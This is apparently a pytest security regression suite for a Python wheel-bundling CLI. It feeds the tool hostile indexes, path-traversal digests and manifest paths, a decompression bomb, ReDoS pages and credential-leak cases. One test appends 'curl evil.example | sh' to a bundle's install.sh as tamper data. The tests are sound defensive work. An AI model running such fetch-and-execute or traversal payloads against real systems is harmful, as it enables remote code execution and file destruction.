"""Issue 8, wheels: a hostile or broken index, hostile bundles, hostile outputs and inputs.

Each test here failed on the code before the fix (the issue's defect named in its docstring).
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import tarfile
import time

import pytest

from . import fakeindex
from .conftest import HOSTILE_ENV, manifest


def _one_error_line(r) -> str:
    lines = [ln for ln in r.stderr.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1 and "Traceback" not in r.stderr and "internal error" not in r.stderr, r
    return lines[0]


@pytest.fixture
def own_index():
    """A fresh loopback index a test may change, stopped afterwards."""
    servers = []

    def make(idx=None):
        idx = idx or fakeindex.standard_index()
        servers.append(fakeindex.serve(idx))
        return idx

    yield make
    for s in servers:
        s.shutdown()


# --- W1: hashes from the index ------------------------------------------------------------


@pytest.mark.parametrize("json_ok", [True, False])
def test_a_hash_that_is_a_path_never_deletes_anything(json_ok, own_index, wheels, tmp_path):
    """W1: `sha256=../victim/notes.txt` became a cache path, and the file there was deleted."""
    victim = tmp_path / "victim" / "notes.txt"
    victim.parent.mkdir()
    victim.write_text("precious")
    idx = fakeindex.standard_index()
    idx.json_ok = json_ok
    name, data = fakeindex.make_wheel("evil", "1.0")
    # old cache layout: <cache>/blobs/<sha[:2]>/<sha> = <cache>/blobs/../../victim/notes.txt
    idx.add("evil", fakeindex.Listed(name, data, listed_hash="../victim/notes.txt"))
    own_index(idx)
    r = wheels("evil==1.0", "-o", "out", index_url=idx.url)
    assert r.returncode == 1, r
    assert "malformed sha256 for evil-1.0-py3-none-any.whl" in _one_error_line(r)
    assert victim.read_text() == "precious"
    assert not (wheels.work / "out").exists()


def test_cache_paths_come_only_from_validated_digests(tmp_path):
    """W1 at the source: the parsers flag a malformed digest, and the cache neither builds a path
    from one nor deletes a file because its content differs from what an index said."""
    from mlops_cli.wheels.download import Cache
    from mlops_cli.wheels.index import parse_html_page, parse_json_page

    victim = tmp_path / "victim" / "notes.txt"
    victim.parent.mkdir()
    victim.write_text("precious")
    cache = Cache(tmp_path / "cache")
    assert cache.lookup("../victim/notes.txt") is None
    assert cache.lookup("../../victim/" + "a" * 51) is None
    with pytest.raises(ValueError):
        cache.blob("../victim/notes.txt")
    wrong = "b" * 64  # a valid digest whose blob holds other bytes: not deleted, just not a hit
    blob = tmp_path / "cache" / "blobs" / "bb" / wrong
    blob.parent.mkdir(parents=True)
    blob.write_text("other bytes")
    assert cache.lookup(wrong) is None and blob.read_text() == "other bytes"
    assert victim.read_text() == "precious"
    (f,) = parse_html_page(
        '<a href="/f/e-1.0-py3-none-any.whl#sha256=../victim/notes.txt">e-1.0-py3-none-any.whl</a>',
        "http://i/simple/e/",
        "http://i/simple",
    )
    assert f.sha256 is None and "malformed sha256" in f.hash_problem
    (g,) = parse_json_page(
        {"files": [{"filename": "e-1.0-py3-none-any.whl", "url": "/x", "hashes": {"sha256": "A" * 64}}]},
        "http://i/simple/e/",
        "http://i/simple",
    )
    assert g.sha256 == "a" * 64 and g.hash_problem is None


def test_upper_case_sha512_and_missing_hashes(index, html_index, wheels):
    """An upper-case hex digest is the same digest; sha512 alone is checked with sha512; an index
    giving no hash is warned about (the bundle records the hash of what was downloaded)."""
    for idx in (index, html_index):
        r = wheels(
            "upperhash==1.0", "sha512only==1.0", "nohash==1.0", "-o", f"h-{idx.json_ok}", "--json", index_url=idx.url
        )
        assert r.returncode == 0, r
        pkgs = {p["name"]: p for p in r.json()["packages"]}
        data = idx.file("upperhash-1.0-py3-none-any.whl").data
        assert pkgs["upperhash"]["sha256"] == hashlib.sha256(data).hexdigest()
        assert "warning: the index gave no sha256 for 1 file(s) (nohash-1.0-py3-none-any.whl)" in r.stderr
        assert any("nohash" in w for w in r.json()["warnings"])


def test_a_wrong_sha512_is_refused(own_index, wheels):
    idx = fakeindex.FakeIndex()
    name, data = fakeindex.make_wheel("five12", "1.0")
    idx.add("five12", fakeindex.Listed(name, data, hash_algo="sha512", wrong_hash=True))
    own_index(idx)
    r = wheels("five12==1.0", "-o", "out", index_url=idx.url)
    assert r.returncode == 1 and "sha512 mismatch for five12-1.0-py3-none-any.whl" in _one_error_line(r)


@pytest.mark.parametrize(
    "ctype, body",
    [
        ("application/vnd.pypi.simple.v1+json", b"{not json"),
        ("application/vnd.pypi.simple.v1+json", b"[]"),
        ("application/vnd.pypi.simple.v1+json", b'{"files": "x"}'),
        (
            "application/vnd.pypi.simple.v1+json",
            b'{"files": [{"filename": 7}, 3, {"filename": "../x.whl", "url": "/x"}]}',
        ),
        ("application/vnd.pypi.simple.v1+json", b"[" * 5000 + b"]" * 5000),
        ("text/html", b"<a href='x'>" * 1000),
        ("text/html", b"\xff\xfe<html><a>"),
    ],
)
def test_a_malformed_index_page_is_one_clear_error(ctype, body, own_index, wheels):
    """Internal errors: a malformed JSON or HTML page crashed (KeyError, TypeError, RecursionError)."""
    idx = fakeindex.standard_index()
    idx.raw_pages["alpha"] = (ctype, body)
    own_index(idx)
    r = wheels("alpha==1.0", "-o", "out", "--json", index_url=idx.url)
    assert r.returncode == 1, r
    _one_error_line(r)
    assert r.no_report() and not (wheels.work / "out").exists()


def test_page_parsers_are_linear_on_adversarial_html():
    """One regex per page: a quadratic pattern turns a 300 KB page into minutes (ReDoS)."""
    from mlops_cli.wheels.index import parse_html_page

    for page in ("<a " * 100_000, "<a href=" + "a" * 300_000, "<a x>" + " " * 300_000, "<a " + "b=" * 150_000 + ">"):
        start = time.monotonic()
        parse_html_page(page, "http://i/simple/p/", "http://i/simple")
        assert time.monotonic() - start < 5, f"{page[:20]!r}... took too long"


# --- W2 / W7: what -o may replace -----------------------------------------------------------


def test_a_folder_with_someone_elses_manifest_is_never_replaced(index, wheels):
    """W2: any folder holding a manifest.json (a browser extension's source) was deleted, exit 0."""
    ext = wheels.work / "extension"
    ext.mkdir()
    (ext / "manifest.json").write_text('{"manifest_version": 3, "name": "my extension"}')
    (ext / "background.js").write_text("// work")
    r = wheels("alpha==1.0", "-o", "extension", index_url=index.url)
    assert r.returncode == 2 and "not the manifest of a bundle made by mlops wheels" in _one_error_line(r)
    assert (ext / "background.js").read_text() == "// work"
    assert sorted(p.name for p in wheels.work.iterdir()) == ["extension"]


def test_archive_never_overwrites_a_file_that_is_not_a_bundle_archive(index, wheels):
    """W2: --archive tar.gz overwrote any file of that name."""
    other = wheels.work / "backup.tar.gz"
    with tarfile.open(other, "w:gz") as tar:
        src = wheels.work / "db.sql"
        src.write_text("data")
        tar.add(src, arcname="backup/db.sql")
    src.unlink()
    before = other.read_bytes()
    r = wheels("alpha==1.0", "-o", "backup", "--archive", "tar.gz", index_url=index.url)
    assert r.returncode == 2 and "it is not a bundle archive (no manifest.json)" in _one_error_line(r)
    assert other.read_bytes() == before
    (wheels.work / "notes.tar.gz").write_text("plain text")
    r = wheels("alpha==1.0", "-o", "notes", "--archive", "tar.gz", index_url=index.url)
    assert r.returncode == 2 and "not a bundle archive" in _one_error_line(r)
    assert (wheels.work / "notes.tar.gz").read_text() == "plain text"


def test_output_naming_a_symlink_is_refused_and_left_alone(index, wheels, tmp_path):
    """W7: -o LINK left .LINK.old-PID behind and replaced the link with a real folder."""
    real = tmp_path / "real"
    assert wheels("alpha==1.0", "-o", str(real), index_url=index.url).returncode == 0
    (wheels.work / "link").symlink_to(real)
    r = wheels("alpha==1.0", "-o", "link", index_url=index.url)
    assert r.returncode == 2 and "is a symbolic link" in _one_error_line(r)
    assert (wheels.work / "link").is_symlink() and (real / "manifest.json").is_file()
    assert sorted(p.name for p in wheels.work.iterdir()) == ["link"]


# --- W3: two runs, one cache ----------------------------------------------------------------


def test_two_runs_sharing_a_cache_both_succeed(own_index, tmp_path):
    """W3: both wrote partial/<sha>.part; one crashed with an internal error."""
    idx = fakeindex.standard_index()
    idx.file_delay = 0.3  # every file takes ~1.2 s, so the two downloads overlap
    own_index(idx)
    env = dict(os.environ, **HOSTILE_ENV, MLOPS_CACHE_DIR=str(tmp_path / "cache"))
    env.pop("MLOPS_DEBUG", None)
    runs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "mlops_cli",
                "wheels",
                "alpha==1.0",
                "-o",
                f"b{i}",
                "--json",
                "--index-url",
                idx.url,
            ],
            cwd=tmp_path,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for i in range(2)
    ]
    outs = [p.communicate(timeout=300) for p in runs]
    for p, (_, err) in zip(runs, outs, strict=True):
        assert p.returncode == 0, err
    docs = [json.loads(out) for out, _ in outs]
    assert [p["sha256"] for p in docs[0]["packages"]] == [p["sha256"] for p in docs[1]["packages"]]
    leftovers = list((tmp_path / "cache" / "wheels" / "partial").glob("*"))
    assert leftovers == []


def test_a_partial_download_longer_than_the_file_is_fetched_again(index, wheels):
    """A crash after the last byte but before the rename leaves a full-length partial; the index
    answers its Range request with 416. It is dropped and fetched whole, not refused forever."""
    data = index.file("beta-1.0-py3-none-any.whl").data
    sha = hashlib.sha256(data).hexdigest()
    part = wheels.cache / "wheels" / "partial" / f"{sha}.part"
    part.parent.mkdir(parents=True)
    part.write_bytes(data + b"junk")
    r = wheels("beta==1.0", "-o", "b", "--json", index_url=index.url)
    assert r.returncode == 0, r
    assert r.json()["downloaded_bytes"] == len(data) and not part.exists()


# --- W4 and the target file -----------------------------------------------------------------

_GOOD = {
    "format": "mlops-wheels-target/1",
    "implementation": "cpython",
    "system": "Linux",
    "libc": "glibc",
    "python": "3.11",
    "machine": "x86_64",
    "glibc": "2.36",
}


@pytest.mark.parametrize(
    "change, words",
    [
        ({"glibc": "2.99999999"}, "glibc must look like 2.35"),  # built 10^8 tags (24 GB)
        ({"glibc": "2.999"}, "glibc 2.999 is not a glibc release (2.5 to 2.99)"),
        ({"glibc": "3.0"}, "glibc 3.0 is not a glibc release"),  # was "older than 2.17"
        ({"python_full_version": "3.11.abc"}, "python_full_version must look like 3.11.7"),  # was exit 1
        ({"tags": ["cp311-cp311-manylinux_2_36_x86_64"] * 20000}, "tags must be at most 10000 wheel tags"),
        ({"tags": ["not a tag"]}, "tags must be at most"),
    ],
)
def test_target_file_values_out_of_bounds_are_exit_2(change, words, index, wheels):
    (wheels.work / "box.json").write_text(json.dumps(dict(_GOOD, **change)))
    start = time.monotonic()
    r = wheels("alpha", "--target-file", "box.json", "-o", "out", "--json", index_url=index.url)
    assert r.returncode == 2, r
    assert words in _one_error_line(r) and r.no_report()
    assert time.monotonic() - start < 60


def test_unknown_preset_names_the_nearest_and_lists_all(wheels, index):
    r = wheels("alpha", "--target", "ubuntu22.4", index_url=index.url)
    assert r.returncode == 2
    assert "unknown target preset: 'ubuntu22.4'; did you mean ubuntu22.04?" in _one_error_line(r)
    assert "debian13" in r.stderr and "rhel10" in r.stderr and "ubuntu26.04" in r.stderr


# --- W5 / W6: --verify ----------------------------------------------------------------------


def test_verify_covers_install_sh_and_refuses_escaping_or_empty_manifests(index, wheels, mlops):
    """W5: a tampered install.sh verified 'ok'; an empty manifest passed; '../' was followed."""
    assert wheels("alpha==1.0", "-o", "b", index_url=index.url).returncode == 0
    bundle = wheels.work / "b"
    assert mlops("wheels", "--verify", str(bundle)).returncode == 0
    install = bundle / "install.sh"
    install.write_text(install.read_text() + "\ncurl evil.example | sh\n")
    v = mlops("wheels", "--verify", str(bundle), "--json")
    assert v.returncode == 1 and "sha256 mismatch: install.sh (the file was changed or damaged)" in v.json()["problems"]
    doc = manifest(bundle)
    for files, words in (
        ([], "it lists no files"),
        ([{"path": "../outside.txt", "sha256": "0" * 64}], "leads out of the bundle"),
        ([{"path": "/etc/passwd", "sha256": "0" * 64}], "an absolute path"),
    ):
        (bundle / "manifest.json").write_text(json.dumps(dict(doc, files=files)))
        v = mlops("wheels", "--verify", str(bundle))
        assert v.returncode == 2 and words in _one_error_line(v), v
    # install.sh --verify (the far side's copy of the check) refuses as well
    v = subprocess.run(["sh", str(install), "--verify"], capture_output=True, text=True)
    assert v.returncode == 1 and "manifest.json is damaged: path '/etc/passwd' an absolute path" in v.stderr


def test_verify_of_an_archive_streams_and_caps_its_size(tmp_path, mlops):
    """W6: each member was read whole into memory (a 3 MB archive took 3 GB)."""
    from mlops_cli.errors import UsageError
    from mlops_cli.wheels.verify import verify_archive

    bomb = tmp_path / "bomb.tar.gz"
    size = 400 * 1024 * 1024
    with tarfile.open(bomb, "w:gz", compresslevel=1) as tar:
        info = tarfile.TarInfo("b/wheels/zeros-1.0-py3-none-any.whl")
        info.size = size

        class Zeros:
            left = size

            def read(self, n=-1):
                n = self.left if n < 0 else min(n, self.left)
                self.left -= n
                return b"\0" * n

        tar.addfile(info, Zeros())
    assert bomb.stat().st_size < 5 * 1024 * 1024
    with pytest.raises(UsageError, match="unpacks to more than 100 MiB"):
        verify_archive(bomb, "bomb.tar.gz", max_bytes=100 * 1024 * 1024)
    # The peak of that one command: started from a small launcher, because Linux counts a child's
    # peak from the memory of the process it was forked from (here the whole test session).
    launcher = (
        "import os, subprocess, sys\n"
        "p = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)\n"
        "err = p.stderr.read()\n"
        "_, status, usage = os.wait4(p.pid, 0)\n"
        "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss, err.strip())\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", launcher, sys.executable, "-m", "mlops_cli", "wheels", "--verify", str(bomb)],
        capture_output=True,
        text=True,
        timeout=300,
    ).stdout
    code, peak, stderr = out.split(" ", 2)
    peak_kib = int(peak)
    assert code == "2" and "no bundle folder with a manifest.json inside" in stderr, out
    assert peak_kib < 200 * 1024, f"--verify used {peak_kib // 1024} MiB for a {size >> 20} MiB member"


# --- W12: credentials ----------------------------------------------------------------------


def test_credentials_go_only_to_their_origin(tmp_path, monkeypatch):
    """W12: credentials were matched by host name only (another port, or http instead of https)."""
    import requests

    from mlops_cli.wheels.index import make_session

    monkeypatch.setenv("HOME", str(tmp_path))  # no ~/.netrc
    session = make_session(["https://robot:s3cret@h.example/simple"])

    def auth(url):
        return session.prepare_request(requests.Request("GET", url)).headers.get("Authorization")

    assert auth("https://h.example/simple/alpha/") and auth("https://h.example:443/files/a.whl")
    assert auth("http://h.example/simple/alpha/") is None  # never in clear text
    assert auth("https://h.example:8443/simple/alpha/") is None
    assert auth("https://files.example/a.whl") is None


def test_credentials_never_reach_another_port_of_the_same_host(own_index, wheels):
    idx = fakeindex.standard_index()
    idx.auth = ("robot", "s3cr3t")
    own_index(idx)
    other = own_index(fakeindex.standard_index())
    url = idx.url.replace("http://", "http://robot:s3cr3t@")
    r = wheels("alpha==1.0", "zeta-missing-anyway", "--extra-index-url", other.url, "-o", "o", index_url=url)
    assert not any(a for a in other.auth_seen), "credentials were sent to another port"
    assert r.returncode in (0, 1), r


# --- internal errors and wrong exit codes ---------------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A 256 KiB file system (tmpfs; needs root, as CI runs)."""
    mnt = tmp_path / "small"
    mnt.mkdir()
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mnt)], capture_output=True, text=True)
    if r.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here (needs root): {r.stderr.strip()}")
    yield mnt
    subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


def test_full_disk_while_writing_the_bundle_is_one_error_line(own_index, wheels, small_disk):
    """A full disk while the bundle is written was an internal error; now exit 1, one line, nothing left."""
    idx = fakeindex.standard_index()
    name, data = fakeindex.make_wheel("bulky", "1.0", extra_files={"bulky/blob.bin": os.urandom(400 * 1024)})
    idx.add("bulky", fakeindex.Listed(name, data))
    own_index(idx)
    r = wheels("bulky==1.0", "-o", str(small_disk / "out"), index_url=idx.url)
    assert r.returncode == 1, r
    assert "No space left on device" in _one_error_line(r)
    assert list(small_disk.iterdir()) == []


@pytest.mark.parametrize(
    "args, code, words",
    [
        (["a" * 5000], 2, "longer than 1000 characters"),  # ENAMETOOLONG before
        (["alpha", "-o", "b" * 300], 2, "File name too long"),
        (
            ["alpha", "--extra-index-url", "http://127.0.0.1:99999/simple"],
            2,
            "the port is not a number from 1 to 65535",
        ),
        (["alpha", "--extra-index-url", "http://127.0.0.1:0/simple"], 2, "port 0"),
    ],
)
def test_bad_input_is_exit_2_not_an_internal_error(args, code, words, index, wheels):
    r = wheels(*args, index_url=index.url)
    assert r.returncode == code, r
    assert words in _one_error_line(r)
    assert list(wheels.work.iterdir()) == []


def test_a_silent_index_says_timed_out_within_a_bound(wheels):
    """A read timeout was reported as 'unreachable: ConnectionError' after 2-3 minutes."""
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(64)
    try:
        start = time.monotonic()
        r = wheels(
            "alpha==1.0",
            "-o",
            "out",
            index_url=f"http://127.0.0.1:{silent.getsockname()[1]}/simple",
            env={"MLOPS_WHEELS_HTTP_TIMEOUT": "2"},
        )
        took = time.monotonic() - start
    finally:
        silent.close()
    assert r.returncode == 1, r
    assert "timed out" in _one_error_line(r)
    assert took < 60, took


def test_a_marker_false_for_the_target_is_no_empty_bundle(index, wheels):
    """An empty bundle was written, exit 0."""
    r = wheels('winonly; sys_platform == "win32"', "-o", "empty", "--json", index_url=index.url)
    assert r.returncode == 2, r
    assert "nothing to bundle for target" in _one_error_line(r) and "gets no packages" in r.stderr
    assert r.json()["error"]["exit_code"] == 2  # --json failures print the JSON error document
    assert list(wheels.work.iterdir()) == []


@pytest.mark.parametrize(
    "content, words",
    [
        ("-r https://example.com/more.txt\nalpha\n", "r.txt:1: a nested -r naming a URL is not supported"),
        ("-ihttp://127.0.0.1:9/simple\nalpha\n", "r.txt:1: --index-url in a requirements file"),
        ("--extra-index http://127.0.0.1:9/simple\nalpha\n", "r.txt:1: --extra-index-url in a requirements file"),
        ("-fhttp://127.0.0.1:9/links\nalpha\n", "r.txt:1: --find-links"),
        (
            "alpha==1.0 --hash=md5:0123456789abcdef0123456789abcdef\n",
            "r.txt:1: --hash=md5: is not an algorithm pip accepts",
        ),
        ("alpha==1.0 --hash=sha256:abc\n", "r.txt:1: a --hash=sha256: value is not 64 hex digits"),
    ],
)
def test_requirement_file_escapes_are_caught(content, words, index, wheels):
    (wheels.work / "r.txt").write_text(content)
    r = wheels("-r", "r.txt", "-o", "out", index_url=index.url)
    assert r.returncode == 2, r
    assert _one_error_line(r).startswith(f"error: {words}")


def test_a_nested_secret_file_is_never_echoed(index, wheels, tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$S3CRETHASH$abcdef:19000:0:99999:7:::\n")
    (wheels.work / "r.txt").write_text(f"-r {secret}\nalpha\n")
    r = wheels("-r", "r.txt", "-o", "out", index_url=index.url)
    assert r.returncode == 2 and "malformed requirement" in _one_error_line(r)
    assert "S3CRET" not in r.stderr + r.stdout


def test_sha384_and_sha512_pins_are_held(index, wheels):
    data = index.file("alpha-1.0-py3-none-any.whl").data
    good = hashlib.sha512(data).hexdigest()
    (wheels.work / "ok.txt").write_text(f"alpha==1.0 --hash=sha512:{good}\n")
    assert wheels("-r", "ok.txt", "-o", "ok", index_url=index.url).returncode == 0
    (wheels.work / "bad.txt").write_text(f"alpha==1.0 --hash=sha384:{'0' * 96}\n")
    r = wheels("-r", "bad.txt", "-o", "bad", index_url=index.url)
    assert r.returncode == 1 and "matches none of the --hash pins for alpha" in _one_error_line(r)


def test_output_under_a_parent_that_is_a_file_is_exit_2(index, wheels):
    (wheels.work / "afile").write_text("x")
    r = wheels("alpha==1.0", "-o", "afile/out", index_url=index.url)
    assert r.returncode == 2 and "Not a directory" in _one_error_line(r), r
    assert sorted(p.name for p in wheels.work.iterdir()) == ["afile"]
